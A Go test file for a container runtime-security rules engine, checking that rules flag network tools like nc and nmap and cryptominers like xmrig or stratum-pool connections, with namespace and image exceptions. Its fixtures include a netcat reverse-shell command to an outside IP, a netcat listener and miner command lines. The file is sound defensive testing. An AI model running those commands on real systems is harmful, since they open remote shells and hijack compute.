package rules

import (
	"testing"

	"github.com/google/go-cmp/cmp"
)

func execIn(container bool, ns string, fields map[string]any) map[string]any {
	ev := map[string]any{
		"evt.type": "execve", "user.name": "root", "user.uid": 0, "proc.pname": "bash",
	}
	if container {
		ev["container.id"] = "ee97d9c4186f"
		ev["container.image.repository"] = "docker.io/library/alpine"
		ev["k8s.ns.name"] = ns
		ev["k8s.pod.name"] = "web-1"
	} else {
		ev["container.id"] = "host"
	}
	for k, v := range fields {
		ev[k] = v
	}
	return ev
}

const debugNamespaceFile = `
- list: quell_debug_namespaces
  items: [debug]
  override:
    items: append
`

func TestBuiltinSyscallRules(t *testing.T) {
	tests := []struct {
		name  string
		extra string // user rules file loaded after the built-ins
		event map[string]any
		want  []string
	}{
		{
			name:  "nc in container",
			event: execIn(true, "default", map[string]any{"proc.name": "nc", "proc.cmdline": "nc -e /bin/sh 1.2.3.4 4444"}),
			want:  []string{"Launch Suspicious Network Tool in Container"},
		},
		{
			name:  "ncdu is not nc",
			event: execIn(true, "default", map[string]any{"proc.name": "ncdu", "proc.cmdline": "ncdu /"}),
			want:  []string{},
		},
		{
			name:  "nmap on host",
			event: execIn(false, "", map[string]any{"proc.name": "nmap", "proc.cmdline": "nmap -sn 10.0.0.0/24"}),
			want:  []string{"Launch Suspicious Network Tool on Host"},
		},
		{
			name:  "host process without container fields counts as host",
			event: map[string]any{"evt.type": "execve", "proc.name": "tcpdump"},
			want:  []string{"Launch Suspicious Network Tool on Host"},
		},
		{
			name:  "ncdu on host",
			event: execIn(false, "", map[string]any{"proc.name": "ncdu"}),
			want:  []string{},
		},
		{
			name:  "nc that is not an exec",
			event: execIn(true, "default", map[string]any{"evt.type": "open", "proc.name": "nc"}),
			want:  []string{},
		},
		{
			name:  "dig in default namespace",
			extra: debugNamespaceFile,
			event: execIn(true, "default", map[string]any{"proc.name": "dig", "proc.cmdline": "dig example.com"}),
			want:  []string{"Launch Suspicious Network Tool in Container"},
		},
		{
			name:  "dig in allowed debug namespace",
			extra: debugNamespaceFile,
			event: execIn(true, "debug", map[string]any{"proc.name": "dig", "proc.cmdline": "dig example.com"}),
			want:  []string{},
		},
		{
			name:  "nmap in debug namespace is not a debug tool",
			extra: debugNamespaceFile,
			event: execIn(true, "debug", map[string]any{"proc.name": "nmap"}),
			want:  []string{"Launch Suspicious Network Tool in Container"},
		},
		{
			name: "image exception appended by a user file",
			extra: `
- rule: Launch Suspicious Network Tool in Container
  exceptions:
    - name: images
      values:
        - [docker.io/nicolaka/netshoot, [dig, nc]]
  override:
    exceptions: append
`,
			event: execIn(true, "default", map[string]any{"proc.name": "dig", "container.image.repository": "docker.io/nicolaka/netshoot"}),
			want:  []string{},
		},
		{
			name:  "xmrig",
			event: execIn(true, "default", map[string]any{"proc.name": "xmrig", "proc.cmdline": "xmrig --donate-level 1"}),
			want:  []string{"Known Cryptominer Process Executed"},
		},
		{
			name:  "renamed miner with a stratum URL",
			event: execIn(true, "default", map[string]any{"proc.name": "kworker", "proc.cmdline": "kworker -o stratum+tcp://pool.example:3333 -u wallet"}),
			want:  []string{"Detect crypto miners using the Stratum protocol"},
		},
		{
			name:  "xmrig with stratum on host fires both",
			event: execIn(false, "", map[string]any{"proc.name": "xmrig", "proc.cmdline": "xmrig -o STRATUM+SSL://pool.example:443"}),
			want:  []string{"Known Cryptominer Process Executed", "Detect crypto miners using the Stratum protocol"},
		},
		{
			name:  "mining documentation is not mining",
			event: execIn(true, "default", map[string]any{"proc.name": "less", "proc.cmdline": "less stratum-protocol.md"}),
			want:  []string{},
		},
		{
			name: "connect to a public mining pool port",
			event: execIn(true, "default", map[string]any{"evt.type": "connect", "proc.name": "kworker",
				"fd.typechar": "4", "fd.l4proto": "tcp", "fd.sip": "203.0.113.7", "fd.sport": 3333,
				"fd.cip": "10.244.1.5", "fd.cport": 40000, "fd.name": "10.244.1.5:40000->203.0.113.7:3333"}),
			want: []string{"Outbound connection to a mining pool port"},
		},
		{
			name: "connect to the same port inside the cluster",
			event: execIn(true, "default", map[string]any{"evt.type": "connect", "proc.name": "app",
				"fd.typechar": "4", "fd.l4proto": "tcp", "fd.sip": "10.96.0.20", "fd.sport": 3333}),
			want: []string{},
		},
		{
			name: "connect to a public HTTPS port",
			event: execIn(true, "default", map[string]any{"evt.type": "connect", "proc.name": "curl",
				"fd.typechar": "4", "fd.l4proto": "tcp", "fd.sip": "203.0.113.7", "fd.sport": 443}),
			want: []string{},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var files []File
			if tt.extra != "" {
				files = append(files, File{Name: "local.yaml", Data: []byte(tt.extra)})
			}
			eng := mustEngine(t, false, files...)
			ev := sysEvent(t, tt.event)
			got := names(eng.MatchSyscall(nil, ev))
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("matches (-want +got):\n%s", diff)
			}
		})
	}
}

func TestBuiltinSyscallOutput(t *testing.T) {
	eng := mustEngine(t, false)
	ev := sysEvent(t, execIn(true, "default", map[string]any{"proc.name": "nc", "proc.cmdline": "nc -lvp 4444", "proc.exepath": "/usr/bin/nc"}))
	m := eng.MatchSyscall(nil, ev)
	if len(m) != 1 {
		t.Fatalf("got %d matches", len(m))
	}
	want := "Network tool launched in container (process=nc command=nc -lvp 4444 parent=bash user=root uid=0 exepath=/usr/bin/nc container_id=ee97d9c4186f container_name=<NA> image=docker.io/library/alpine:<NA> pod=web-1 ns=default)"
	if diff := cmp.Diff(want, m[0].FormatSyscall(ev)); diff != "" {
		t.Errorf("output (-want +got):\n%s", diff)
	}
}
